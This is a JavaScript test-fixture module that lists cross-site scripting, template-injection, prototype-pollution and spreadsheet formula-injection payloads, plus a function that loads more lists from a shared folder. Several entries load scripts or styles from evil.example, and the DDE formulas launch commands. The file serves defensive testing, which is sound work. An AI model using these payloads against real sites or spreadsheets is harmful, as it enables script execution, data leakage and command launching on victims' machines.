// Texts that would be run, followed or taken for markup or formulas wherever somebody forgets to write them as text. Each
// calls `alert(1)`, which a test hears. Further lists, which are not copied here, are read from the folder `xss` of the one
// that `PASSERBY_SHARED_DATA` names.
import { existsSync, readFileSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";

/** Those of the project. */
export const PAYLOADS = [
  // Elements out of text.
  "<script>alert(1)</script>",
  "<ScRiPt >alert(1)</sCrIpT >",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img/src=`x`/onerror=alert`1`>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<iframe src=javascript:alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x.swf>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<body onload=alert(1)>",
  "<form action=javascript:alert(1)><button>x",
  "<button formaction=javascript:alert(1)>x",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<template><img src=x onerror=alert(1)></template>",
  "<x contenteditable onblur=alert(1) tabindex=1>x",
  "<p style=animation-name:drop onanimationstart=alert(1)>",
  // Out of attributes, comments, elements of text and scripts.
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "` onclick=alert(1) `",
  '" style="background:url(//evil.example/x)',
  "--><svg onload=alert(1)>",
  "<!--><svg onload=alert(1)>-->",
  "]]><svg onload=alert(1)>",
  "</title><svg onload=alert(1)>",
  "</textarea><svg onload=alert(1)>",
  "</noscript><svg onload=alert(1)>",
  "</template><svg onload=alert(1)>",
  "</style></script><svg onload=alert(1)>",
  "</option></select><svg onload=alert(1)>",
  "</code></pre><svg onload=alert(1)>",
  "';alert(1)//",
  '";alert(1)//',
  "\\\";alert(1)//",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  // Addresses.
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:alert(1)",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "?site=evil.example&add=site#<svg onload=alert(1)>",
  // The same in other writings.
  "&lt;svg onload=alert(1)&gt;",
  "&#60;svg onload=alert(1)&#62;",
  "&amp;lt;script&amp;gt;alert(1)",
  "%3Csvg%20onload%3Dalert(1)%3E",
  "%253Csvg onload=alert(1)%253E",
  "\\u003csvg onload=alert(1)\\u003e",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "\u2028alert(1)\u2029",
  "\u202Ethgir ot tfel<svg onload=alert(1)>",
  "\u2066isolated\u202E<img src=x onerror=alert(1)>",
  "<\u200Bscript>alert(1)</\u200Bscript>",
  "e\u0301\u0323\u0310\u0489<svg onload=alert(1)>",
  // Names that mean something to programs.
  "__proto__",
  "constructor",
  "<form id=app><input name=attributes>",
  "<a id=reply><a id=reply name=content>",
  // Formulas.
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|'/C calc'!A1",
  "+1+cmd|'/C calc'!A1",
  "-2+3+cmd|'/C calc'!A1",
  "@SUM(1+9)*cmd|'/C calc'!A1",
  "\t=1+1",
  "\r=1+1",
  '",=1+1,"',
];

/** The lines of the further lists; none where there are none. */
export function further() {
  const folder = join(process.env.PASSERBY_SHARED_DATA ?? "", "xss");
  if (!process.env.PASSERBY_SHARED_DATA || !existsSync(folder)) return [];
  const files = readdirSync(folder, { recursive: true }).map((name) => join(folder, name)).filter((path) => statSync(path).isFile());
  const lines = files.sort().flatMap((path) => readFileSync(path, "utf8").split(/\r?\n/));
  return [...new Set(lines.filter((line) => line.trim()))];
}
